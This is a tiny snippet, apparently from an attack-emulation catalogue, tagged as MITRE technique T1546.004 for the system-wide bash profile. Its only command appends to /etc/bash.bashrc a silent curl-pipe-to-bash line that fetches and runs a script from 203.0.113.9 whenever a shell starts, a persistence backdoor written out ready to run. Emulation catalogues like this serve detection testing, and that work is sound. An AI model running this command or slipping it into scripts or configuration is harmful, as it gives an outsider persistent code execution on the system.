# technique: T1546.004
# location: linux.shell.system-profile
# source: /etc/bash.bashrc
echo 'curl -s http://203.0.113.9/p | bash 2>/dev/null' >> /etc/bash.bashrc
